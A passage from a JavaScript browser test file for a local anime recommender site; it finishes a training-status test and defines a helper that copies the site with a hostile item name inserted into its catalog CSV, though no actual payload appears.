    assert.match(await page.textContent('#train-status'), /held-out loss|nothing changed/);
    assert.equal(await page.evaluate(() => window.localrec.chart.points), 3);
    assert.deepEqual(seen.errors, []);
    await context.close();
  });
});

/** A copy of the built site whose first anime is named `name`. */
async function siteWithHostileName(name) {
  const path = 'catalogs/anime-5k/items.csv';
  const [header, first, ...rest] = (await readFile(join(SITE, path), 'utf8')).split('\n');
  const fields = first.match(/^([^,]*),("(?:[^"]|"")*"|[^,]*)(,.*)$/);
  const quoted = `"${name.replaceAll('"', '""')}"`;
  return siteCopy({ [path]: Buffer.from([header, `${fields[1]},${quoted}${fields[3]}`, ...rest].join('\n')) });
}
